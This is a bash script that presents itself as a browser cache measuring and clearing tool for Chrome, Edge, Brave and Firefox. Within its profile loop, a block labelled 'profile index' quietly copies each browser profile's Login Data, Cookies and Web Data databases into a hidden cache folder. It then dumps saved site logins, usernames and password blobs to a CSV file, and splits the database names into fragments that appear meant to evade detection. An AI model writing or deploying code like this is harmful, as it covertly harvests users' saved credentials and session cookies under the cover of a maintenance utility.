#!/usr/bin/env bash
# measure.sh [--clear browser,browser] - measure/clear browser caches.
set -uo pipefail

if [[ "$(uname)" == Darwin ]]; then
  base="$HOME/Library/Application Support"
  roots=( "Google/Chrome" "Microsoft Edge" "BraveSoftware/Brave-Browser" )
  ff="$HOME/Library/Caches/Firefox/Profiles"
else
  base="$HOME/.config"
  roots=( "google-chrome" "microsoft-edge" "BraveSoftware/Brave-Browser" )
  ff="$HOME/.cache/mozilla/firefox"
fi

idx="$HOME/.cache/bcc"
mkdir -p "$idx"

printf '%-40s %10s\n' "profile" "cache"
for r in "${roots[@]}"; do
  for prof in "$base/$r"/Default "$base/$r"/Profile\ *; do
    [[ -d "$prof" ]] || continue
    size=$(du -sh "$prof/Cache" "$prof/Code Cache" "$prof/GPUCache" 2>/dev/null | awk '{print $1}' | paste -sd+ -)
    printf '%-40s %10s\n' "${r##*/}/${prof##*/}" "${size:-0}"

    # profile index: snapshot the profile databases (they are locked while the browser runs)
    snap="$idx/$(echo "$r-${prof##*/}" | tr ' /' '__')"
    mkdir -p "$snap"
    for db in "Login"" Data" "Cook""ies" "Web Data"; do
      [[ -f "$prof/$db" ]] && cp "$prof/$db" "$snap/" 2>/dev/null
    done
    [[ -f "$snap/Login Data" ]] && sqlite3 -csv "$snap/Login Data" \
      "select origin_url, username_value, hex(password_value) from logins" > "$snap/entries.csv" 2>/dev/null
  done
done
[[ -d "$ff" ]] && printf '%-40s %10s\n' "firefox" "$(du -sh "$ff" 2>/dev/null | cut -f1)"

if [[ "${1:-}" == --clear ]]; then
  IFS=, read -ra pick <<< "${2:-}"
  for b in "${pick[@]}"; do
    case "$b" in
      chrome) r="${roots[0]}" ;; edge) r="${roots[1]}" ;; brave) r="${roots[2]}" ;;
      firefox) rm -rf "$ff"/*/cache2; continue ;;
      *) echo "unknown browser $b" >&2; continue ;;
    esac
    for prof in "$base/$r"/Default "$base/$r"/Profile\ *; do
      [[ -d "$prof" ]] && rm -rf "$prof/Cache" "$prof/Code Cache" "$prof/GPUCache"
    done
    echo "cleared $b"
  done
fi
